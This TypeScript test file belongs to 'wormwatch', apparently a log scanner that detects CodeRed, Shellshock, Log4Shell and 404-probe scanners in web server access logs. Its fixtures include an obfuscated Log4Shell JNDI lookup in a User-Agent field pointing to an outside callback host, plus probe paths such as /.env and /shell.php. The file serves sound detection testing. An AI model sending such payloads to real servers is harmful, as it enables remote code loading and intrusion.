import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { loadOptions } from '../../src/config/load.js';
import { defaultEngine } from '../../src/rules/index.js';
import { stormExtension } from '../../src/runtime/extensions/storm.js';
import type { DetectionEvent } from '../../src/detect/detection.js';
import { createLogger } from '../../src/log.js';
import { runScan, type ScanSummary } from '../../src/scan/index.js';
import { startScan } from '../../src/runtime/scan.js';
import { CODERED, COMBINED, COMMON, CSV, fixtureDir, GARBAGE, NGINX, W3C, type FixtureDir } from './fixtures.js';
import { GUARDED_NODE_ARGS } from '../helpers/no-network.js';

const engine = defaultEngine();

async function scan(files: string[], extra: { format?: 'auto' | 'combined' | 'csv'; maxLineBytes?: number } = {}): Promise<{ summary: ScanSummary; events: DetectionEvent[] }> {
  const events: DetectionEvent[] = [];
  const summary = await runScan({ files, format: extra.format ?? 'auto', ...(extra.maxLineBytes ? { maxLineBytes: extra.maxLineBytes } : {}) }, { engine: () => engine, onDetection: (e) => events.push(e) });
  return { summary, events };
}

describe('wormwatch scan: reading logs', () => {
  let fx: FixtureDir;
  beforeEach(() => {
    fx = fixtureDir();
  });
  afterEach(() => fx.remove());

  it('reads each format, chosen per file, and counts every line: records, headers, unparsable', async () => {
    const files = [
      fx.write('access_log', [...COMBINED.slice(0, 2), GARBAGE[0]!, ...COMBINED.slice(2)]),
      fx.write('nginx.log', NGINX),
      fx.write('common.log', COMMON),
      fx.write('u_ex150113.log', W3C),
      fx.write('access.02.csv', CSV),
    ];
    const { summary, events } = await scan(files);
    const brief = summary.files.map((f) => [f.format, f.lines, f.records, f.skipped, f.unparsable]);
    assert.deepEqual(brief, [
      ['combined', 5, 4, 0, 1],
      ['combined', 3, 3, 0, 0],
      ['combined', 2, 2, 0, 0],
      ['w3c', 6, 2, 4, 0],
      ['csv', 4, 3, 1, 0],
    ]);
    assert.equal(summary.lines, 20);
    assert.equal(summary.unparsable, 1);
    assert.deepEqual(summary.unparsableSamples, [{ file: files[0], line: 3, text: GARBAGE[0] }]);
    const codered = events.find((e) => e.verdict.signature.family === 'codered');
    assert.ok(codered, 'CodeRed II is detected from the log line');
    assert.equal(codered.ip, '172.152.188.242');
    assert.equal(codered.at.toISOString(), '2004-08-01T11:02:57.000Z', 'the time is the logged one');
    assert.equal(codered.action, 'observed');
    assert.equal(codered.verdict.stage, 'request');
    assert.match(codered.requestLine, /^GET \/default\.ida\?XXXX/);
    assert.equal(summary.detections.byFamily.codered, 1);
    assert.equal(summary.detections.total, events.length);
    assert.ok(summary.topOffenders.some((o) => o.ip === '172.152.188.242' && o.families.includes('codered')));
  });

  it('inspects the logged User-Agent and Referer like request headers (Shellshock, Log4Shell)', async () => {
    const file = fx.write('mixed.csv', CSV);
    const log4j = fx.write('log4j.log', ['192.168.1.4 - - [12/Dec/2021:05:06:43 +0000] "GET / HTTP/1.1" 200 396 "-" "${jndi:${lower:l}${lower:d}a${lower:p}://world80.log4j.bin${upper:a}ryedge.io:80/callback}"']);
    const { events } = await scan([file, log4j]);
    const families = events.map((e) => `${e.ip} ${e.verdict.signature.family}`);
    assert.ok(families.includes('207.150.177.129 shellshock'), `Shellshock in the Referer: got ${families.join('; ')}`);
    assert.ok(families.includes('192.168.1.4 log4shell'), `Log4Shell in the User-Agent: got ${families.join('; ')}`);
  });

  it('reads gzipped logs, by content rather than name, and reports a corrupt one without losing the rest', async () => {
    const gz = fx.writeGz('access_log.1.gz', COMBINED);
    const unnamed = fx.writeGz('access_log.2', COMBINED);
    const corrupt = fx.write('broken.gz', Buffer.concat([readFileSync(gz).subarray(0, 40)]));
    const missing = `${fx.dir}/nope.log`;
    const { summary } = await scan([gz, unnamed, corrupt, missing]);
    assert.deepEqual(summary.files.map((f) => [f.lines, f.records, f.detections > 0, f.error ?? null]).slice(0, 2), [[4, 4, true, null], [4, 4, true, null]]);
    assert.match(summary.files[2]!.error ?? '', /gzip|unexpected end/i);
    assert.equal(summary.files[3]!.error, 'no such file');
    assert.equal(summary.detections.byFamily.codered, 2);
  });

  it('counts lines over the length limit as unparsable instead of holding them', async () => {
    const file = fx.write('long.log', [COMBINED[0]!, CODERED, COMBINED[1]!]);
    const { summary } = await scan([file], { maxLineBytes: 200 });
    assert.deepEqual([summary.lines, summary.records, summary.unparsable], [3, 2, 1]);
    assert.match(summary.unparsableSamples[0]!.text, /^\(line of \d+ bytes, over the limit\)$/);
  });

  it('with a forced --format, lines of another format are unparsable, never dropped', async () => {
    const { summary } = await scan([fx.write('access.csv', CSV)], { format: 'combined' });
    assert.deepEqual([summary.lines, summary.records, summary.unparsable], [4, 0, 4]);
  });
});

describe('wormwatch scan: feeding the pipeline', () => {
  let fx: FixtureDir;
  before(() => {
    fx = fixtureDir();
  });
  after(() => fx.remove());

  it('fills the offender store, the metrics, and raises 404 storms from the logged 404s', async () => {
    const probes = ['/.env', '/wp-login.php', '/phpmyadmin/', '/admin.php', '/shell.php'].map(
      (path, i) => `45.33.32.156 - - [10/Dec/2024:00:00:0${i} +0700] "GET ${path} HTTP/1.1" 404 187 "-" "curl/8.5.0"`,
    );
    const file = fx.write('probes.log', [...probes, CODERED]);
    const options = loadOptions({ env: {}, flags: { stormThreshold: '3', logLevel: 'silent' } });
    const pipeline = await startScan(options, { logger: createLogger('silent'), engine, extensions: [stormExtension] });
    try {
      const summary = await runScan({ files: [file], format: 'auto' }, {
        engine: pipeline.engine, onDetection: pipeline.onDetection, onNotFound: pipeline.onNotFound, subscribe: pipeline.subscribe,
      });
      assert.equal(summary.detections.bySignature['http-404-storm']?.count, 1, 'the 4th distinct 404 within 60 s is a storm');
      assert.equal(summary.files[0]!.detections, summary.detections.total, 'storms count against the file they came from');
      const scanner = pipeline.offenders.get('45.33.32.156');
      assert.ok(scanner);
      assert.ok(scanner.signatures['http-404-storm'] === 1);
      assert.equal(scanner.lastSeen.toISOString() >= '2024-12-09T17:00:03.000Z', true);
      const worm = pipeline.offenders.get('172.152.188.242');
      assert.equal(worm?.family, 'codered');
      const text = await pipeline.metrics.registry.getSingleMetricAsString('wormwatch_detections_total');
      assert.match(text, /signature="http-404-storm",family="scanner",stage="404",action="observed"\} 1/);
    } finally {
      await pipeline.stop();
    }
  });
});

describe('wormwatch scan: the command', () => {
  let fx: FixtureDir;
  before(() => {
    fx = fixtureDir();
  });
  after(() => fx.remove());

  it('scans files and gzipped stdin, prints a JSON summary, and exits 1 when an input is missing', async function () {
    this.timeout(60_000); // a child Node process with tsx takes seconds to start on two busy cores
    const file = fx.write('u_ex150113.log', W3C);
    const gz = readFileSync(fx.writeGz('access_log.gz', COMBINED));
    const main = fileURLToPath(new URL('../../src/cli/main.ts', import.meta.url));
    const root = fileURLToPath(new URL('../../', import.meta.url));
    const env: NodeJS.ProcessEnv = { PATH: process.env.PATH ?? '' };
    const child = spawn(process.execPath, [...GUARDED_NODE_ARGS, main, 'scan', '--json', '--notify', 'off', '--data-dir', fx.dir, file, '-', `${fx.dir}/missing.log`], { cwd: root, env, stdio: ['pipe', 'pipe', 'pipe'] });
    child.stdin.end(gz);
    let stdout = '';
    let stderr = '';
    child.stdout.setEncoding('utf8').on('data', (c: string) => (stdout += c));
    child.stderr.setEncoding('utf8').on('data', (c: string) => (stderr += c));
    const code = await new Promise<number | null>((resolve) => child.on('close', resolve));
    assert.equal(code, 1, stderr);
    const summary = JSON.parse(stdout) as ScanSummary;
    assert.deepEqual(summary.files.map((f) => [f.file, f.format, f.lines, f.error ?? null]), [
      [file, 'w3c', 6, null],
      ['-', 'combined', 4, null],
      [`${fx.dir}/missing.log`, null, 0, 'no such file'],
    ]);
    assert.equal(summary.detections.byFamily.codered, 1);
    assert.ok(summary.linesPerSecond >= 0);
  });
});
